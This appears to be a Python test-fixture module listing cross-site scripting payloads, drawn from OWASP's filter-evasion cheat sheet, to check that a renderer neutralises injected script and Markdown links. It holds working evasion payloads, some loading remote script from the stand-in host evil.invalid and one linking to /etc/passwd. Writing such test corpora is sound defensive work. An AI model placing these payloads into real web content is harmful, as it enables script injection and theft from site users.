"""Text that tries to run a script where it is shown.

Written after the categories of OWASP's XSS Filter Evasion Cheat Sheet
(https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), with Markdown's ways of writing a link
added. Each calls `alert`, or asks for something from elsewhere, both of which the test would notice.
"""

EVENTS = (
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<p onmouseover=alert(1)>x",
    "<a onclick=alert(1)>x</a>", "<div onpointerenter=alert(1)>x", "<form><button formaction=javascript:alert(1)>x",
    "<object onerror=alert(1) data=x>", "<frameset onload=alert(1)>", "<iframe onload=alert(1)>",
    "<style onload=alert(1)></style>", "<link rel=stylesheet href=x onerror=alert(1)>",
    "<img src=x:x onerror\x0d=alert(1)>", "<IMG SRC=/ onerror=alert(1)></img>", "<img src onerror=alert`1`>",
    "<b oncontentvisibilityautostatechange=alert(1)>", "<img/src='x'/onerror='alert(1)'>", "<svg/onload=alert(1)//",
)  # fmt: skip
"""Event handlers, with and without somebody's doing."""

SCRIPTS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.invalid/x.js></script>",
    "<script/xss src='//evil.invalid/x.js'></script>", "<<script>alert(1);//<</script>", "<script>alert(1)",
    "<script src=data:,alert(1)></script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=module>alert(1)</script>", "<script\n>alert(1)</script\n>", "<script>alert(String.fromCharCode(49))</script>",
    "<script src=.//evil.invalid/.j>", "<script>\\u0061lert(1)</script>", "<script>eval('al'+'ert(1)')</script>",
    "<script>/*</script><svg onload=alert(1)>*/", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)  # fmt: skip
"""Script elements, whole and broken."""

BREAKOUTS = (
    "\"><img src=x onerror=alert(1)>", "'><svg onload=alert(1)>", "\" onmouseover=alert(1) x=\"", "' onfocus=alert(1) autofocus '",
    "\" autofocus onfocus=alert(1) \"", "`onerror=alert(1)", "</title><svg onload=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>", "</option></select><img src=x onerror=alert(1)>", "--><svg onload=alert(1)>",
    "]]><svg onload=alert(1)>", "</script><svg onload=alert(1)>", "</style><svg onload=alert(1)>", "\\\"><svg onload=alert(1)>",
    "';alert(1)//", "\";alert(1)//", "\\';alert(1)//", "{{7*7}}{{alert(1)}}", "{% raw %}alert(1)", "${alert(1)}", "#{alert(1)}",
    "<%= alert(1) %>", "<?php echo 'alert(1)' ?>", "<!--#exec cmd=\"alert(1)\"-->", "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "</svg><img src=x onerror=alert(1)>", "\" hx-on:load=\"alert(1)\" x=\"", "<div hx-get=/models hx-trigger=load>x</div>",
    "<p data-key=n hx-on::load=alert(1)>x", "\" style=\"x:expression(alert(1))", "</a><a href=javascript:alert(1)>x",
)  # fmt: skip
"""Out of an attribute, an element, a comment, a template or a script."""

ADDRESSES = (
    "<a href=javascript:alert(1)>x</a>", "<a href=JaVaScRiPt:alert(1)>x</a>", "<a href=' javascript:alert(1)'>x</a>",
    "<a href='jav\tascript:alert(1)'>x</a>", "<a href='java\nscript:alert(1)'>x</a>", "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<a href=&#106;avascript:alert(1)>x</a>", "<a href=&#x6A&#x61vascript:alert(1)>x</a>",
    "<a href=&#0000106&#0000097vascript:alert(1)>x</a>", "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href=vbscript:alert(1)>x</a>", "<a href='livescript:alert(1)'>x</a>", "<img src=javascript:alert(1)>",
    "<img src=`javascript:alert(1)`>", "<input type=image src=javascript:alert(1)>", "<body background=javascript:alert(1)>",
    "<img dynsrc=javascript:alert(1)>", "<img lowsrc=javascript:alert(1)>", "<bgsound src=javascript:alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<frame src=javascript:alert(1)>",
    "<table background=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<object data=javascript:alert(1)>",
    "<object data=data:text/html,<script>alert(1)</script>>", "<base href=javascript:alert(1);//>", "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>", "<form action=javascript:alert(1)><input type=submit>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>", "<math href=javascript:alert(1)>x</math>",
    "<a href=\"&#14; javascript:alert(1)\">x</a>", "<isindex action=javascript:alert(1)>", "<a href=//evil.invalid>x</a>",
    "<area href=javascript:alert(1) shape=default>", "<link rel=stylesheet href=//evil.invalid/x.css>",
)  # fmt: skip
"""Addresses that are scripts, in whatever attribute and encoding; and what would load from elsewhere."""

FOREIGN = (
    "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a>",
    "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'/>",
    "<svg><foreignObject><img src=x onerror=alert(1)>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">", "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=x>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>", "<xmp><p title='</xmp><svg onload=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>", "<svg><![CDATA[><img src=x onerror=alert(1)>]]>",
    "<xml id=i><x><c><![CDATA[<img src='javas]]><![CDATA[cript:alert(1)'>]]></c></x></xml>", "<plaintext onload=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<select><style></select><img src=x onerror=alert(1)>",
)  # fmt: skip
"""SVG, MathML, and markup that becomes another when it is parsed again."""

STYLES = (
    "<p style=background:url(javascript:alert(1))>x", "<p style='width:expression(alert(1))'>x",
    "<style>@import '//evil.invalid/x.css'</style>", "<style>li{list-style-image:url(javascript:alert(1))}</style>",
    "<style>body{background:url(//evil.invalid/x.png)}</style>", "<p style='behavior:url(x.htc)'>x",
    "<p style='-moz-binding:url(//evil.invalid/x.xml#x)'>x", "<style>*{display:none}</style>", "<p style='position:fixed;inset:0'>x",
    "<style>@im\\port'\\ja\\vasc\\ript:alert(1)'</style>",
)  # fmt: skip
"""Style sheets and style attributes."""

CODES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "&#x3C;svg onload=alert(1)&#x3E;",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "\\u003csvg onload=alert(1)\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "&amp;lt;svg onload=alert(1)>",
    "<\u017fcript>alert(1)</\u017fcript>", "\u02bcscript\u02bcalert(1)", "&LT;SCRIPT&GT;alert(1)", "\u226escript>alert(1)",
    "<\u0301img src=x onerror=alert(1)>",
)  # fmt: skip
"""Markup in entities, escapes and other letters."""

UNPRINTABLE = (
    "<scr\x00ipt>alert(1)</script>", "<img\x00src=x onerror=alert(1)>", "java\x00script:alert(1)", "<img src=x\x0bonerror=alert(1)>",
    "\u202e<gvs onload=alert(1)>", "a\u2066<img src=x onerror=alert(1)>\u2069", "\ufeff<script>alert(1)</script>",
    "<s\u200bcript>alert(1)</script>", "\x1b[31m<svg onload=alert(1)>", "\u2028<svg onload=alert(1)>", "\x7f<svg onload=alert(1)>",
)  # fmt: skip
"""Null bytes, controls, and what turns the reading order around: some fields refuse these, and show them so."""

MARKDOWN = (
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x]( javascript:alert(1))", "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)", "[x](javascript&colon;alert(1))", "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))", "[x](javascript&#58;alert(1))", "[x](\\javascript:alert(1))", "[x](j\\avascript:alert(1))",
    "[x](%6aavascript:alert(1))", "[x](javascript://a.org/%0aalert(1))", "[x](&#1;javascript:alert(1))", "[x](&Tab;javascript:alert(1))",
    "[x](vbscript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)", "[x](data:text/html;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)", "[x](file:///etc/passwd)", "[x](blob:https://a.org/1)", "[x](about:blank)",
    "[x](//evil.invalid)", "[x](/\\evil.invalid)", "[x](/&#9;/evil.invalid)", "[x](https:/\\evil.invalid)", "[x](#\" onclick=alert(1))",
    "[x](/models \"\" onmouseover=alert(1) \"\")", "[x](/models '\" onmouseover=alert(1) x=\"')", "[x](/models?a=\"onmouseover=alert(1))",
    "[x](/models?'\"><svg/onload=alert(1)>)", "[<img src=x onerror=alert(1)>](/models)", "[x\"onmouseover=alert(1)](/models)",
    "![x](javascript:alert(1))", "![x](https://evil.invalid/x.png)", "![x](//evil.invalid/x.png)", "![x\" onerror=alert(1) y=\"](/x.png)",
    "![x](/x.png \"\" onerror=alert(1) \"\")", "![x](x\"onerror=\"alert(1))", "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[![x](javascript:alert(1))](javascript:alert(1))", "<javascript:alert(1)>", "<JAVASCRIPT:alert(1)>", "<vbscript:alert(1)>",
    "<data:text/html,alert(1)>", "<https://a.org/\"onmouseover=alert(1)>", "<https://a.org/'><svg/onload=alert(1)>>",
    "[x][evil1]\n\n[evil1]: javascript:alert(1)", "[evil2]\n\n[evil2]: <javascript:alert(1)> 'x'",
    "[evil3][]\n\n[evil3]: data:text/html,<script>alert(1)</script>", "[evil4]\n\n[evil4]: /models \"'><svg/onload=alert(1)>\"",
    "`<img src=x onerror=alert(1)>`", "    <img src=x onerror=alert(1)>", "```\n</code></pre><svg onload=alert(1)>\n```",
    "~~~\n<script>alert(1)</script>\n~~~", "# <img src=x onerror=alert(1)>", "<svg onload=alert(1)>\n---", "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>", "|<img src=x onerror=alert(1)>|\n|-|\n|<svg onload=alert(1)>|", "**<svg onload=alert(1)>**",
    "*<b*onmouseover=alert(1)>*", "\\<svg onload=alert(1)>", "<div\n\nonmouseover=alert(1)>", "<!-- --><img src=x onerror=alert(1)>",
    "https://a.org/<svg/onload=alert(1)>", "[x](https://a.org/<svg/onload=alert(1)>)", "[x](javascript:alert(1)\n)", "[](javascript:alert(1))",
    "[x](<https://a.org/\"><svg onload=alert(1)>>)", "&lt;svg onload=alert(1)&gt;", "<a name=\"n\" href=\"javascript:alert(1)\">*click*</a>",
)  # fmt: skip
"""Every form of Markdown's links, pictures, code and blocks."""

PLAIN = (*EVENTS, *SCRIPTS, *BREAKOUTS, *ADDRESSES, *FOREIGN, *STYLES, *CODES)
LINES = tuple(text for text in PLAIN if text.isprintable())
EVERYTHING = (*PLAIN, *UNPRINTABLE, *MARKDOWN)
